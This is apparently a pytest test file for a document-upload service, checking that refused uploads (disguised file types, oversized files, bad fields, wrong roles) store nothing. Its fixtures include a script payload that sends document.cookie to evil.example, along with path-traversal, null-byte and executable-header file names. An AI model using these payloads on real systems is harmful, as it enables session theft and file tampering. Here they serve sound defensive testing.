"""Refused uploads store nothing: no row, no blob, no event."""

import io

import pytest

from portico.settings import load_settings

HTML = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/'+document.cookie</script>"


@pytest.fixture
def small_limit_client(settings):
    """The app with a 1 KiB upload limit."""
    from documents.app import create_app

    limited = load_settings(
        "documents",
        database_url=settings.database_url,
        DOCUMENTS_OUTBOX_RELAY="off",
        DOCUMENTS_BLOB_DIR=settings.get("blob_dir"),
        DOCUMENTS_MAX_UPLOAD_BYTES="1024",
    )
    app = create_app(limited)
    yield app.test_client()
    app.extensions["portico.db"].dispose()


@pytest.mark.parametrize(
    ("name", "data_key", "raw", "status"),
    [
        ("invoice.pdf", None, HTML, 422),  # HTML dressed as a PDF
        ("photo.pdf", "png", None, 422),  # a PNG named as a PDF
        ("terms.pdf", "docx", None, 422),
        ("program.pdf", None, b"MZ\x90\x00" + b"\x00" * 300, 422),
        ("../../etc/cron.d/evil.pdf", "pdf", None, 422),
        ("..\\..\\boot.ini.pdf", "pdf", None, 422),
        ("/etc/passwd.pdf", "pdf", None, 422),
        (".htaccess.pdf", "pdf", None, 422),
        ("nul\x00byte.pdf", "pdf", None, 422),
        ("empty.pdf", None, b"", 422),
    ],
)
def test_abusive_uploads_by_operators_are_refused_with_nothing_stored(
    upload, replicated, files, nothing_stored, name, data_key, raw, status
):
    replicated(customer_id=7)

    response = upload(7, files[data_key] if data_key else raw, name)

    assert response.status_code == status, response.get_json()
    assert response.mimetype == "application/problem+json"
    assert "file" in response.get_json().get("errors", {})
    assert nothing_stored()


def test_a_file_over_the_limit_is_too_large_and_stores_nothing(
    small_limit_client, operator, replicated, files, nothing_stored
):
    replicated(customer_id=7)
    big = files["pdf"] + b"%" + b"0" * 2048

    response = small_limit_client.post(
        "/admin/v1/customers/7/documents", data={"file": (io.BytesIO(big), "big.pdf")}, headers=operator
    )

    assert response.status_code == 413
    assert response.mimetype == "application/problem+json"
    assert nothing_stored()


@pytest.mark.parametrize(
    "form",
    [
        {"file": None},  # no file part
        {"file": "not a file"},
        {"kind": "invoice"},
        {"category_id": "999"},
        {"category_id": "x"},
        {"visible": "perhaps"},
        {"title": "x" * 201},
        {"requires_acceptance": "true"},  # only contracts ask for acceptance
        {"unexpected": "1"},
    ],
)
def test_bad_fields_are_refused_with_nothing_stored(client, operator, replicated, files, nothing_stored, form):
    replicated(customer_id=7)
    data = {k: v for k, v in ({"file": (io.BytesIO(files["pdf"]), "ok.pdf")} | form).items() if v is not None}

    response = client.post(
        "/admin/v1/customers/7/documents", data=data, headers=operator, content_type="multipart/form-data"
    )

    assert response.status_code in (400, 422), response.get_json()
    assert nothing_stored()


def test_a_json_body_instead_of_a_form_is_refused(client, operator, replicated, nothing_stored):
    replicated(customer_id=7)

    response = client.post("/admin/v1/customers/7/documents", json={"file": "JVBERi0="}, headers=operator)

    assert response.status_code == 422
    assert nothing_stored()


def test_a_customer_uploads_their_own_document(client, replicated, files, as_customer, outbox_events, stored_blobs):
    replicated(customer_id=7)

    response = client.post(
        "/v1/customers/7/documents",
        data={"file": (io.BytesIO(files["png"]), "meter reading.png"), "description": "Photo of the meter"},
        headers=as_customer(7),
    )

    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    assert (body["kind"], body["title"], body["own_upload"], body["requires_acceptance"]) == (
        "document",
        "meter reading.png",
        True,
        False,
    )
    [event] = outbox_events("documents.document.published")
    assert event["data"]["created_by"] == "customer:7"
    assert stored_blobs() == [body["sha256"]]
    listed = client.get("/v1/customers/7/documents", headers=as_customer(7)).get_json()
    assert [d["id"] for d in listed["items"]] == [body["id"]]


@pytest.mark.parametrize(
    ("name", "raw"), [("x.pdf", HTML), ("../x.png", None), ("empty.png", b"")]
)  # fmt: skip
def test_a_customers_abusive_upload_stores_nothing(client, replicated, files, as_customer, nothing_stored, name, raw):
    replicated(customer_id=7)

    response = client.post(
        "/v1/customers/7/documents",
        data={"file": (io.BytesIO(files["png"] if raw is None else raw), name)},
        headers=as_customer(7),
    )

    assert response.status_code == 422
    assert nothing_stored()


def test_customer_uploads_can_be_turned_off(settings, replicated, files, as_customer, nothing_stored):
    from documents.app import create_app

    off = load_settings(
        "documents",
        database_url=settings.database_url,
        DOCUMENTS_OUTBOX_RELAY="off",
        DOCUMENTS_BLOB_DIR=settings.get("blob_dir"),
        DOCUMENTS_CUSTOMER_UPLOAD="off",
    )
    app = create_app(off)
    replicated(customer_id=7)
    try:
        response = app.test_client().post(
            "/v1/customers/7/documents", data={"file": (io.BytesIO(files["pdf"]), "a.pdf")}, headers=as_customer(7)
        )
    finally:
        app.extensions["portico.db"].dispose()

    assert response.status_code == 403
    assert nothing_stored()


def test_an_operator_cannot_upload_as_the_customer(client, operator, replicated, files, nothing_stored):
    replicated(customer_id=7)

    response = client.post(
        "/v1/customers/7/documents", data={"file": (io.BytesIO(files["pdf"]), "a.pdf")}, headers=operator
    )

    assert response.status_code == 403
    assert nothing_stored()
